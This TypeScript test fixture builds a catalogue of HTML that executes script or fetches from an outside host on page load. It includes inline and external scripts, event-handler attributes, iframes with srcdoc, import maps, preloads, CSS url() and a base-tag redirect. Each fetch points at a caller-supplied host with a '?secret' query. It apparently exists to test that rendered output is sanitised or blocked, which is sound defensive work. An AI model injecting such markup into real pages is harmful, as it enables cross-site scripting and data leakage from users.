/** What a release could render on the server: whatever runs code, or fetches, as soon as a browser reads it. Only leading the page elsewhere is missing, which no policy of markup stops. */
export const hostileMarkup = (elsewhere: string): string => {
  const from = (name: string): string => `${elsewhere}/${name}?secret`
  return `
    <script>globalThis.ran = 'inline script'</script>
    <script src="${from('script')}"></script>
    <script type="module">globalThis.ran = 'inline module'</script>
    <script type="module" src="${from('module')}"></script>
    <script type="importmap">{ "imports": { "vue": "${from('import-map')}" } }</script>
    <script type="speculationrules">{ "prefetch": [{ "urls": ["${from('speculation')}"] }] }</script>
    <img src="data:," onerror="globalThis.ran = 'attribute'" />
    <svg onload="globalThis.ran = 'attribute of a drawing'"><image href="${from('drawing')}" /></svg>
    <img src="${from('picture')}" srcset="${from('pictures')} 2x" />
    <video src="${from('video')}" poster="${from('poster')}" autoplay></video>
    <audio src="${from('audio')}" autoplay></audio>
    <input type="image" src="${from('button')}" />
    <iframe src="${from('frame')}"></iframe>
    <iframe srcdoc="<script>parent.ran = 'document of a frame'</script><img src='${from('picture-of-a-frame')}'>"></iframe>
    <object data="${from('object')}"></object>
    <embed src="${from('embed')}" />
    <link rel="stylesheet" href="${from('sheet')}" />
    <link rel="preload" as="image" href="${from('preload')}" />
    <link rel="modulepreload" href="${from('modulepreload')}" />
    <link rel="prefetch" href="${from('prefetch')}" />
    <style>body { background: url(${from('inline-sheet')}) }</style>
    <p style="background: url(${from('inline-style')})"></p>
    <div><template shadowrootmode="open"><img src="${from('shadow')}" /></template></div>
    <base href="${elsewhere}/base/" />`
}
